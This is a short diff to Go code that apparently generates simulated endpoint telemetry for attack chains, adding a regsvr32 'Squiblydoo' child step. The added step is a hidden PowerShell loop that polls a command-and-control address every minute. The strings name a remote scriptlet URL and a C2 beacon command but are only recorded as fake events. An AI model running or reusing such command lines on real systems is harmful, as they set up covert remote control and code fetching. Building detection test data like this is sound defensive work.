@@ -194,7 +194,10 @@ func chainNetwork(g *gen, h *host, t time.Time) {
 	r := squiblydoo(h, cmd, t.Add(4*time.Second), "https://"+c2Domain+"/update.sct", c2Domain, c2IP, role, nil)
 	h.dns(r, t.Add(6*time.Second), "pastebin.example.com", "192.0.2.80", role+"/regsvr32")
 	h.connect(r, t.Add(6100*time.Millisecond), "pastebin.example.com", "192.0.2.80", 443, role+"/regsvr32")
-	squiblydoo(h, cmd, t.Add(60*time.Second), "http://"+c2IP2+"/x.sct", "", c2IP2, role+"-ip", nil)
+	squiblydoo(h, cmd, t.Add(60*time.Second), "http://"+c2IP2+"/x.sct", "", c2IP2, role+"-ip", func(r *proc, at time.Time) {
+		ps := h.spawn(r, at, imgPowerShell, `powershell.exe -w hidden -c "while(1){iwr http://`+c2IP2+`/b -UseBasicParsing; sleep 60}"`, spawnOpt{role: role + "-ip/child", life: 3 * time.Minute})
+		h.connect(ps, at.Add(time.Second), "", c2IP2, 80, role+"-ip/child")
+	})
 }
 
 // chainRenamed: regsvr32 copied to ProgramData under another name.
